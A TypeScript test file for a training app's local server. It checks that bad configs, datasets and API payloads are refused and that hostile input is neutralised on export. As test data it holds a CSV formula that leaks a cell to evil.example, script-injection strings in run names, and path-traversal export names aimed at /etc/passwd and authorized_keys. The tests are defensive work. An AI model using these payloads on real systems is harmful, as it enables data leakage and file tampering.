/**
 * The bad-input catalogue: run configs, sweep specs, dataset files (idx and CSV), run bundles and
 * malformed API payloads, each sent through the real HTTP server of `backprop serve` (in this
 * process, on 127.0.0.1) to a database that already holds runs. Every case must be refused with
 * an error naming what was wrong (the field or the file) and must leave the database exactly as
 * it was (row counts and a SHA-256 over every row). Then the inputs that are accepted but must be
 * neutralised on the way out: script in run names, formulas in CSV cells, path traversal in
 * export names.
 */
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { Command } from 'commander';
import { existsSync, mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { bundleEntryOf } from '../../src-shared/report/bundle';
import { fixtureRun, hostile } from '../../src-shared/report/report.testing';
import { createAppCore, type AppCore } from '../core/app';
import { refusingTrainers } from '../core/app.testing';
import { tempDir } from '../core/store/store.testing';
import { startServer, type RunningServer } from '../server/server';
import * as exportCommand from '../cli/commands/export';
import { apiCases } from './api-cases';
import { args, type BadCase } from './bad-case';
import { bundleCases } from './bundle-cases';
import { configCases } from './config-cases';
import { datasetCases } from './dataset-cases';
import { fingerprint } from './db-checksum';
import { sweepCases } from './sweep-cases';

/** A host that refuses to train: a bad input that got queued would show as a failed run. */
const noTrainers = refusingTrainers('bad input reached the trainer');

const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

let tmp: ReturnType<typeof tempDir>;
let core: AppCore;
let server: RunningServer;
let runIds: number[];

beforeAll(async () => {
  tmp = tempDir('backprop-bad-input-');
  const dbPath = join(tmp.dir, 'catalogue.db');
  core = await createAppCore({ dbPath, host: 'serve', trainerHost: noTrainers });
  runIds = core.store.importRuns([
    bundleEntryOf(fixtureRun(1, { name: 'a good run' }, 3), null, 'kept sweep'),
    bundleEntryOf(fixtureRun(2, { name: hostile }, 2), null, null),
    bundleEntryOf(fixtureRun(3, { name: formula }, 2), null, null),
  ]);
  const rendererDir = join(tmp.dir, 'renderer');
  mkdirSync(rendererDir);
  server = await startServer({ services: core.services, rendererDir, port: 0 });
});

afterAll(async () => {
  await server?.close();
  await core?.close();
  tmp?.cleanup();
});

async function post(method: string, body: string) {
  const res = await fetch(`http://127.0.0.1:${server.port}/api/call/${method}`, {
    method: 'POST',
    headers: { 'x-backprop-token': server.token, 'content-type': 'application/json' },
    body,
  });
  return { status: res.status, json: (await res.json()) as Record<string, never> };
}

const cases: BadCase[] = [
  ...configCases,
  ...sweepCases,
  ...datasetCases,
  ...bundleCases,
  ...apiCases,
];

describe('the bad-input catalogue', () => {
  it('has at least 50 cases across configs, sweeps, datasets, bundles and API payloads', () => {
    expect(cases.length).toBeGreaterThanOrEqual(50);
    const areas = new Set(cases.map((c) => c.name.split(':')[0].replace(/^(idx|csv) /, '')));
    expect([...areas].sort()).toEqual(['api', 'bundle', 'dataset', 'run config', 'sweep']);
    expect(new Set(cases.map((c) => c.name)).size).toBe(cases.length);
  });

  it('notices any write in its fingerprint (a valid run changes it)', async () => {
    const before = fingerprint(core.store.db);
    const body = args({
      dataset: 'xor',
      layers: [2, 2, 1],
      learningRate: 1,
      batchSize: 4,
      epochs: 1,
    });
    const { status } = await post('queue.enqueue', body);
    expect(status).toBe(200);
    expect(fingerprint(core.store.db).sha256).not.toBe(before.sha256);
  });

  it.each(cases)('$name: refused with a clear error, database unchanged', async (c) => {
    const body = typeof c.body === 'string' ? c.body : c.body(join(tmp.dir, 'files'));
    const before = fingerprint(core.store.db);
    const { status, json } = await post(c.method, body);
    expect(json.ok).toBe(false);
    expect((json.error as { message: string }).message).toMatch(c.error);
    expect(status).toBe(c.status);
    expect(fingerprint(core.store.db)).toEqual(before);
  });
});

describe('accepted input made harmless on the way out', () => {
  const exported = async (request: Record<string, unknown>) => {
    const { json } = await post('reports.export', args(request));
    const value = json.value as { fileName: string; base64: string };
    return { fileName: value.fileName, text: Buffer.from(value.base64, 'base64').toString() };
  };

  it('shows script in a run name as text in the HTML report', async () => {
    const before = fingerprint(core.store.db);
    const { text } = await exported({ runIds: [runIds[1]], format: 'html' });
    expect(text).not.toContain('<script>alert(2)');
    expect(text).not.toContain('<img src=x');
    expect(text).toContain('&lt;script&gt;alert(2)&lt;/script&gt;');
    expect(fingerprint(core.store.db)).toEqual(before);
  });

  it('neutralises a formula in a CSV cell with a leading apostrophe', async () => {
    const { text } = await exported({ runIds: [runIds[2]], format: 'csv' });
    const cells = text.split('\r\n')[1];
    expect(cells).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it.each([
    '../../../../etc/passwd',
    '..\\..\\Windows\\System32\\drivers\\etc\\hosts',
    '/tmp/.ssh/authorized_keys',
    '.bashrc',
    'CON',
  ])('keeps an export named %j inside its folder', async (title) => {
    const { fileName } = await exported({ runIds: [runIds[0]], format: 'md', title });
    // A Markdown report is a .zip: the .md with its charts/ beside it.
    expect(fileName).toMatch(/^[A-Za-z0-9][A-Za-z0-9._-]*\.zip$/);
    expect(fileName).not.toContain('..');
  });

  it('refuses a CLI export into a folder that does not exist, naming it and writing nothing', async () => {
    vi.spyOn(process.stdout, 'write').mockImplementation(() => true);
    vi.spyOn(process.stderr, 'write').mockImplementation(() => true);
    const program = new Command('backprop').exitOverride();
    exportCommand.register(program);
    const out = join(tmp.dir, 'no-such-folder', 'report.html');
    const argv = ['export', String(runIds[0]), '--format', 'html', '--out', out];
    try {
      await expect(
        program.parseAsync([...argv, '--db', core.store.path], { from: 'user' }),
      ).rejects.toThrow(`the folder ${join(tmp.dir, 'no-such-folder')} does not exist`);
    } finally {
      vi.restoreAllMocks();
    }
    expect(existsSync(out)).toBe(false);
  });

  it('stores a hostile run name as the exact text it was given', async () => {
    expect(core.store.runs.get(runIds[1])?.name).toBe(hostile);
    expect(readFileSync(core.store.path).length).toBeGreaterThan(0);
  });
});
